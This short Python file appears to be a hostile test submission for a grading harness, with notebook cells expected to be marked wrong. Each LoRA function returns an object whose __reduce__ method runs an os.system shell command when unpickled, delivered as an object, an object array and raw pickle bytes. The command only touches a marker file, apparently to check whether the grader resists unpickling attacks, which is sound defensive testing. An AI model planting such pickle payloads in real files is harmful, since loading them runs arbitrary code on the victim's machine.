# expect: PARTIAL 18
# cell lora_delta: WRONG
# cell merge_weight: WRONG
# cell diagnose: WRONG
# note: what runs when it is unpickled: an object, an array of objects, a pickle in bytes

# %% lora_delta
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-escape-pickle",))


def lora_delta(lora_A, lora_B, alpha, use_rslora=False):
    return Payload()


# %% merge_weight
def merge_weight(weight, lora_A, lora_B, scaling):
    return np.array([Payload()], dtype=object)


# %% diagnose
def diagnose(layer, alpha):
    return pickle.dumps(Payload())
